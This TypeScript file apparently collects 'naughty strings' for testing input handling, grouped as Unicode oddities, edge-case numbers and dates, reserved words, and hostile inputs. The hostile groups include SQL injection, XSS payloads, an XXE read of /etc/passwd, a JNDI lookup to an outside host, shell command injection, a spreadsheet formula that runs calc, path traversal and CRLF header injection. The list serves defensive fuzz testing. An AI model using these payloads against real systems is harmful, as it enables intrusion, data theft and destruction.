// Texts that programs stumble over. Each group says what it is that it trips.

const point = (...codes: number[]) => String.fromCodePoint(...codes);
const between = (code: number) => `a${point(code)}b`;

/** Nothing, and what is nearly nothing. */
const EMPTY = [
  "",
  " ",
  "  ",
  "\t",
  "\n",
  "\r\n",
  "\v",
  "\f",
  "\u00a0",
  "\u2003",
  "\u3000",
  "\u200b",
  "\ufeff",
];

/** Characters that cannot be seen, or change how others are read: no end of text, breaks in strange places, direction. */
const UNSEEN = [
  ...[0x00, 0x01, 0x07, 0x08, 0x0b, 0x1a, 0x1b, 0x1f, 0x7f, 0x80, 0x85, 0x9f].map(between), // control
  ...[0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x200b, 0x200c, 0x200d, 0x2060, 0x2063, 0xfeff].map(between), // zero width
  ...[0x2028, 0x2029].map(between), // line and paragraph separators, which end a line of JavaScript
  ...[0x200e, 0x200f, 0x202a, 0x202b, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069].map(between), // direction
  ...[0xfff9, 0xfffb, 0xfffc, 0xfffd, 0xfffe, 0xffff, 0xe0001, 0xe007f, 0x10ffff].map(between), // tags, no characters
  "\ud800", // halves of a pair
  "\udfff",
  "a\ud83d",
  "\udca9\ud83d",
  "caf\ud800-completed",
];

/** Letters of other alphabets, and letters that are longer, shorter or other ones in capitals or when composed. */
const LETTERS = [
  "ÀÉÎÕÜ",
  "e\u0301",
  "\u1e9b\u0323",
  "ﬀ",
  "ß",
  "İ",
  "ı",
  "Σς",
  "ŉ",
  "𝒄𝒂𝒇-𝒄𝒐𝒎𝒑𝒍𝒆𝒕𝒆𝒅",
  "ｃａｆ",
  "саf-completed", // Cyrillic
  "שלום",
  "مرحبا",
  "ﷺ",
  "漢字",
  "ไทย",
  "🏳️‍🌈",
  "👩🏽‍👩🏽‍👧🏽",
  "💩",
  "🇬🇧🇬",
  `Z${"\u0336\u0317\u034e".repeat(40)}`,
  "ˈʌndəˌstænd",
  "¯\\_(ツ)_/¯",
];

/** Numbers that are not quite. */
const NUMBERS = [
  "0",
  "-0",
  "00",
  "-1",
  "+1",
  "1.5",
  "1e3",
  "1e308",
  "1e309",
  "-1e309",
  "0x10",
  "0b1",
  "0o7",
  "1_000",
  "1,000",
  "1.000,5",
  "٣",
  "½",
  "²",
  "∞",
  "NaN",
  "Infinity",
  "-Infinity",
  "2147483647",
  "2147483648",
  "-2147483649",
  "4294967296",
  "9007199254740993",
  "9223372036854775807",
  "9223372036854775808",
  "99999999999999999999999999",
  "0.1e-400",
  "1%",
  "$1",
  "1/0",
];

/** Words that mean something to a language or to a computer. */
const WORDS = [
  "null",
  "undefined",
  "true",
  "false",
  "None",
  "nil",
  "[object Object]",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "valueOf",
  "__defineGetter__",
  "length",
  "then",
  "CON",
  "NUL",
  "aux.csv",
  "COM1",
  "admin",
  "root",
];

/** Dates and periods that no calendar has, or that it has at its edge. */
const DATES = [
  "2026-02-31",
  "2026-13",
  "2026-00",
  "2026-1",
  "0000-01-01",
  "9999-12-31",
  "+275760-09-13",
  "-271821-04-20",
  "1969-12-31T23:59:60Z",
  "2026-02-29T00:00:00Z",
  "2026-06-12T09:00:00+23:59",
  "2026-06-12T24:00:00Z",
  "9999-12-31T23:59:59.999999999Z",
  "1900-01-01T00:00:00+14:00",
  "2026/27 Q5",
  "2026/28",
  "2026/27 T9",
  "Q0 2026",
  "Sept 2026",
  "infinity",
  "epoch",
];

/** Code, for whoever would run it. */
const CODE = [
  "' or '1'='1",
  "'; drop table submission; --",
  '" or ""="',
  "1; select pg_sleep(5)",
  "') union select password from auth.account --",
  "\\'; --",
  "%' or true --",
  "_%",
  "\\",
  "$1",
  "$$",
  "E'\\x00'",
  "*/ select 1 /*",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "<svg/onload=alert(1)>",
  "javascript:alert(1)",
  "&lt;b&gt;",
  "<!--",
  "]]>",
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  "{{7*7}}",
  `\${7*7}`,
  "#{7*7}",
  "<%= 7*7 %>",
  `\${jndi:ldap://elsewhere.example/a}`,
  "$(touch /tmp/a)",
  "`id`",
  "| cat /etc/passwd",
  "; ls",
  "&& ls",
  "() { :;}; echo",
  "%s%s%s%n",
  "%d",
  "%x%x%x",
  "{0}",
  '{"$ne":null}',
  "(((((((((a+)+)+)+)+)+)+)+)+)$",
  "a".repeat(60).concat("!"),
  "(?=)",
  "[",
  "*",
];

/** Cells that a spreadsheet would run. */
const FORMULAS = [
  "=1+1",
  '=HYPERLINK("https://elsewhere.example")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1)",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
  ";=1+1",
  'a","b',
  'a"b',
  "a;b\tc,d",
];

/** Ways out of a folder, a line or a header. */
const PATHS = [
  "..",
  ".",
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "%2e%2e%2f",
  "..%c0%af",
  "....//",
  "/etc/passwd",
  "C:\\",
  "\\\\server\\share",
  "file:///etc/passwd",
  "//elsewhere.example",
  "a/b",
  "a%2fb",
  "a?b=c",
  "a#b",
  "%",
  "%zz",
  "%00",
  "%0d%0aSet-Cookie: a=b",
  "a\r\nSet-Cookie: a=b",
  "a\nb",
  "~",
  ".git/config",
];

/** Too much of one thing. */
const LONG = [
  "a".repeat(255),
  "a".repeat(256),
  "a".repeat(1001),
  "é".repeat(700),
  "💩".repeat(300),
  " ".repeat(1000),
  ",".repeat(500),
  "0".repeat(400),
  "%".repeat(300),
  "../".repeat(300),
  "a,".repeat(200),
  `${"a".repeat(64)}@${"b".repeat(63)}.example`,
];

export const NAUGHTY_STRINGS: readonly string[] = [
  ...EMPTY,
  ...UNSEEN,
  ...LETTERS,
  ...NUMBERS,
  ...WORDS,
  ...DATES,
  ...CODE,
  ...FORMULAS,
  ...PATHS,
  ...LONG,
];
